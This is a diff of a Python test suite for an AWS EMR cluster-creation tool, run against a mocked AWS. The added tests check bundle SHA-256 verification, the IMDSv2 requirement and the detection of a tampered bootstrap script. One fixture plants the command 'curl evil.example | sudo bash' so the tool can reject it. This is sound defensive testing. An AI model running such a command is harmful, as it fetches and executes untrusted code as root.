@@ -1,5 +1,6 @@
 """create-cluster makes the cluster that it printed, after it has looked and asked; moto is the AWS."""
 
+import hashlib
 import json
 import os
 import pty
@@ -12,14 +13,15 @@ from botocore.exceptions import ClientError
 
 from tests import processes
 from tests.verger_tools.emr.clock import Clock
-from tests.verger_tools.emr.conftest import BUCKET, EMR, REGION
+from tests.verger_tools.emr.conftest import BUCKET, EMR, ON_BUCKET, REGION, SHA256
 from verger_tools.base.errors import Failure
 from verger_tools.base.project import ROOT
 from verger_tools.base.release import RELEASE
 from verger_tools.emr import cli, create_cluster, notebooks
 from verger_tools.emr.places import Place
+from verger_tools.emr.request import build
 
-WORDS = ("--bucket", BUCKET, "--yes")
+WORDS = ("--bucket", BUCKET, "--yes", "--bundle-sha256", SHA256)
 
 
 def test_the_cluster_is_the_one_that_was_asked_for(account, run):
@@ -48,21 +50,76 @@ def test_the_cluster_is_the_one_that_was_asked_for(account, run):
     # moto lists the newest step first, as EMR does.
     run_step, install = emr.list_steps(ClusterId=cluster_id)["Steps"]
     assert install["Config"]["Jar"] == run_step["Config"]["Jar"] == "command-runner.jar"
-    assert install["Config"]["Args"] == [
-        "bash", "-c",
-        f"aws s3 cp s3://{BUCKET}/verger/install-kernel.sh /tmp/install-kernel.sh && bash /tmp/install-kernel.sh "
-        f"--bundle s3://{BUCKET}/verger/verger-bundle-linux-x86_64.tar.gz"]
+    assert install["Config"]["Args"][:2] == ["bash", "-c"]
+    assert f" s3://{BUCKET}/verger/verger-bundle-linux-x86_64.tar.gz $b; echo \"{SHA256}  $b\" | sha256sum --check" in (
+        install["Config"]["Args"][2])
     assert run_step["Config"]["Args"] == [
         "/opt/verger/current/run-notebook", "fruits", "-p", "k", "12", "-p", "images", "s3://photographs/Äpfel und Birnen",
         "--output", f"s3://{BUCKET}/verger/results/fruits"]
     (action,) = emr.list_bootstrap_actions(ClusterId=cluster_id)["BootstrapActions"]
     assert action["ScriptPath"] == f"s3://{BUCKET}/verger/bootstrap.sh"
     security = json.loads(emr.describe_security_configuration(Name="verger-at-rest")["SecurityConfiguration"])
+    assert security["InstanceMetadataServiceConfiguration"] == {
+        "MinimumInstanceMetadataServiceVersion": 2, "HttpPutResponseHopLimit": 1}
     assert security["EncryptionConfiguration"] == {
         "EnableInTransitEncryption": False, "EnableAtRestEncryption": True,
         "AtRestEncryptionConfiguration": {"S3EncryptionConfiguration": {"EncryptionMode": "SSE-S3"}}}
     # A second one takes the security configuration that is there.
     assert run("create-cluster", *WORDS, "--no-wait", url=account.url).returncode == 0
+
+
+def install_step(arguments):
+    """The script of the step that installs the kernel."""
+    options = create_cluster._parse(["--bucket", BUCKET, *arguments])
+    steps = build(options, Place.of(BUCKET, "verger"))["Steps"]
+    return next(step["HadoopJarStep"]["Args"] for step in steps if step["Name"] == "install the kernel")
+
+
+@pytest.mark.parametrize("changed", [False, True], ids=["the uploaded bundle", "an exchanged bundle"])
+def test_the_step_compares_the_bundle_before_anything_of_it_runs(tmp_path, bundle, changed):
+    words = install_step(["--bundle", str(bundle)])
+    if changed:
+        bundle.write_bytes(bundle.read_bytes() + b"x")
+    (tmp_path / "bin").mkdir()
+    aws = tmp_path / "bin" / "aws"  # the CLI: takes the file from this disk
+    aws.write_text(f'#!/bin/sh\ncp {bundle} "$5"\n', encoding="utf-8")
+    aws.chmod(0o755)
+    done = subprocess.run(words, env={**os.environ, "PATH": f"{tmp_path}/bin:{os.environ['PATH']}", "TMPDIR": str(tmp_path)},
+                          capture_output=True, text=True)
+    assert (done.returncode, done.stdout) == ((1, "") if changed else (0, "installed\n")), done.stderr
+    assert ("and not" in done.stderr and "is not installed: upload it again" in done.stderr) is changed
+
+
+def test_a_bundle_that_is_not_known_here_starts_nothing(account, run, bundle, tmp_path):
+    missing = run("create-cluster", "--bucket", BUCKET, "--yes", "--no-wait", "--bundle", "none.tar.gz", url=account.url)
+    assert (missing.returncode, missing.stdout) == (2, "")
+    assert "There is no bundle on this machine to know the one on the bucket by: give it with --bundle FILE" in missing.stderr
+    assert run("upload", "--bucket", BUCKET, "--bundle", str(bundle), url=account.url).returncode == 0
+    other = tmp_path / "other.tar.gz"
+    other.write_bytes(ON_BUCKET)
+    rebuilt = run("create-cluster", "--bucket", BUCKET, "--yes", "--no-wait", "--bundle", str(other), url=account.url)
+    assert (rebuilt.returncode, rebuilt.stdout) == (2, "")
+    assert f"has the SHA-256 {hashlib.sha256(bundle.read_bytes()).hexdigest()[:12]}…, and {SHA256[:12]}… is wanted" in rebuilt.stderr
+    assert run("create-cluster", "--bucket", BUCKET, "--yes", "--no-wait", "--bundle", str(bundle), url=account.url).returncode == 0
+
+
+def test_a_bootstrap_action_that_somebody_has_changed(account, run):
+    account.client("s3").put_object(Bucket=BUCKET, Key="verger/bootstrap.sh", Body=b"curl evil.example | sudo bash")
+    done = run("create-cluster", *WORDS, "--no-wait", url=account.url)
+    assert (done.returncode, done.stdout) == (2, "")
+    assert "verger/bootstrap.sh is not this project's helpers/emr/bootstrap.sh, and every node would run it" in done.stderr
+
+
+def test_a_security_configuration_without_imdsv2(account, run):
+    emr = account.client("emr")
+    emr.create_security_configuration(Name="verger-at-rest", SecurityConfiguration='{"EncryptionConfiguration": {}}')
+    done = run("create-cluster", *WORDS, "--no-wait", url=account.url)
+    assert (done.returncode, done.stdout) == (2, "")
+    assert "does not require IMDSv2: `aws emr delete-security-configuration --name verger-at-rest`" in done.stderr
+    # One that the user has made is the user's.
+    own = run("create-cluster", *WORDS, "--no-wait", "--security-configuration", "verger-at-rest", url=account.url)
+    assert own.returncode == 0
+    assert "The security configuration verger-at-rest does not require IMDSv2" in own.stderr
 
 
 def test_a_key_encrypts_the_volumes(account, run):
@@ -208,7 +265,7 @@ def test_the_price_names_its_source_and_date(run):
 @pytest.mark.parametrize("words, said", [
     (("--region", "us-east-1"), "--region is us-east-1, which is not among the allowed regions (eu-central-1, eu-north-1, "),
     (("--region", "eu-west-2"), "--region is eu-west-2, which is not among"),
-    (("--notebook", "vegetables"), "There is no notebook vegetables in the bundle: it has classify, fruits, "),
+    (("--notebook", "vegetables"), "There is no notebook vegetables in the bundle: it has classify, cluster-check, fruits, "),
     (("--notebook", "fruits", "-p", "kk", "3"), "fruits.ipynb has no parameter kk: it has images, output, k, variance, "),
     (("--notebook", "fruits", "-p", "k", "3", "-p", "k", "4"), "The parameter k is given 2 times"),
     (("--notebook", "fruits", "-p", "images", "~"), "images = ~ is a path of this machine, which the cluster cannot read"),
@@ -277,8 +334,9 @@ def test_a_missing_bucket_bundle_or_role_is_said_before_money_is_spent(account, 
 @pytest.mark.parametrize("typed, made", [("\n", 0), ("n\n", 0), ("yes\n", 1)])
 def test_on_a_terminal_it_asks(account, environment, typed, made):
     here, terminal = pty.openpty()
-    process = processes.start([sys.executable, str(EMR / "create-cluster"), "--bucket", BUCKET, "--no-wait"], stdin=terminal,
-                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment(account.url))
+    process = processes.start([sys.executable, str(EMR / "create-cluster"), "--bucket", BUCKET, "--no-wait", "--bundle-sha256",
+                               SHA256], stdin=terminal, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                              env=environment(account.url))
     os.write(here, typed.encode())
     _, shown = process.communicate(timeout=60)
     os.close(here), os.close(terminal)
@@ -319,7 +377,7 @@ def test_images_and_weights_on_s3_are_looked_for_before_the_question(account, ru
     account.create_bucket("fruits-in-ohio", "us-east-2")
     for key in ("verger/Training/Apple/1.jpg", "verger/w/resnet50.zip"):
         account.client("s3").put_object(Bucket=BUCKET, Key=key, Body=b"")
-    done = run("create-cluster", "--bucket", BUCKET, "--notebook", "fruits", "-p", name, uri, url=account.url)
+    done = run("create-cluster", *WORDS[:2], *WORDS[3:], "--notebook", "fruits", "-p", name, uri, url=account.url)
     assert done.returncode == 2
     assert (said or "Nobody can be asked here: say --yes") in done.stderr
     assert "needs a policy of its own" not in done.stderr
@@ -350,7 +408,7 @@ def test_images_in_a_bucket_that_the_operator_may_not_list_are_left_to_the_nodes
 
 
 def test_without_yes_and_without_anybody_to_ask_nothing_is_made(account, run):
-    done = run("create-cluster", "--bucket", BUCKET, url=account.url)
+    done = run("create-cluster", *WORDS[:2], *WORDS[3:], url=account.url)
     assert done.returncode == 2
     assert "Nobody can be asked here: say --yes" in done.stderr
     assert account.client("emr").list_clusters()["Clusters"] == []
